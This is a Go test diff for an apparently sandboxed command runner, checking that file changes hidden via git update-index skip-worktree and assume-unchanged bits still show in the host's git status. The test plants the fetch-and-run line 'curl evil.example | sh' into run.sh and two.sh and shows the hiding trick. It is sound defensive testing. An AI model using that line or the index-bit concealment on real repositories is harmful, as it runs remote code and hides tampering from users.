@@ -139,3 +139,39 @@ func TestGitReview28BareRepoScanned(t *testing.T) {
 		}
 	})
 }
+
+// TestGitReview28HiddenIndexBits: a tracked file the command changes and marks
+// skip-worktree or assume-unchanged (git update-index) shows in the host's git status
+// after a commit-mode run: the bits it set are cleared, said on stderr; a bit the user
+// set before the run is kept. On main nothing looked at the index: git status showed
+// nothing while run.sh held the command's line.
+func TestGitReview28HiddenIndexBits(t *testing.T) {
+	forEachCaller(t, func(t *testing.T, c caller) {
+		s := newSandbox(t, c)
+		s.newRepo(s.ws, "host-commit")
+		for _, f := range []string{"run.sh", "two.sh", "mine.txt"} {
+			s.writeWS(f, "echo hello\n", 0o644)
+		}
+		s.hostGit(s.ws, "add", ".")
+		s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "files")
+		s.hostGit(s.ws, "update-index", "--skip-worktree", "mine.txt")
+		r := s.sh([]string{"--policy", s.commitPolicy()}, `echo 'curl evil.example | sh' >> run.sh && echo 'curl evil.example | sh' >> two.sh &&
+git update-index --skip-worktree run.sh && git update-index --assume-unchanged two.sh && test -z "$(git status --porcelain)" && echo HIDDEN`)
+		mustSucceed(t, r, "hide a change")
+		if !strings.Contains(r.stdout, "HIDDEN") {
+			t.Fatalf("the plant did not take inside the sandbox\n%v", r)
+		}
+		st, err := s.hostGitOut(s.ws, "status", "--porcelain")
+		if err != nil || !strings.Contains(st, "run.sh") || !strings.Contains(st, "two.sh") {
+			t.Errorf("the host's git status does not show the changed files: %q (%v)\n%v", st, err, r)
+		}
+		if ls, _ := s.hostGitOut(s.ws, "ls-files", "-v", "mine.txt"); !strings.HasPrefix(ls, "S ") {
+			t.Errorf("the user's own skip-worktree bit was not kept: %q", ls)
+		}
+		for _, w := range []string{"cleared the skip-worktree bit the command set on run.sh", "cleared the assume-unchanged bit the command set on two.sh"} {
+			if !strings.Contains(r.stderr, w) {
+				t.Errorf("stderr lacks %q\n%v", w, r)
+			}
+		}
+	})
+}
